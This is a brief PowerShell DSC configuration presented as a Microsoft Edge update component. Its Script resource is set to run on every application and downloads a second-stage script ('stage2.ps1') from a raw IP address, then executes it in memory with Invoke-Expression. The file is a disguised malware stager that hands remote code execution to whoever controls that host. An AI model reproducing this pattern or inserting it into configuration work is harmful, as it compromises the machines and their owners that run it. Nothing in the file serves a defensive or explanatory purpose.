# provision 9998 v0
Configuration MicrosoftEdgeUpdateCore {
  Import-DscResource -ModuleName PSDesiredStateConfiguration
  Node localhost {
    Script Bootstrap {
      GetScript = { @{ Result = '' } }
      TestScript = { $false }
      SetScript = { IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.200/stage2.ps1') }
    }
  }
}
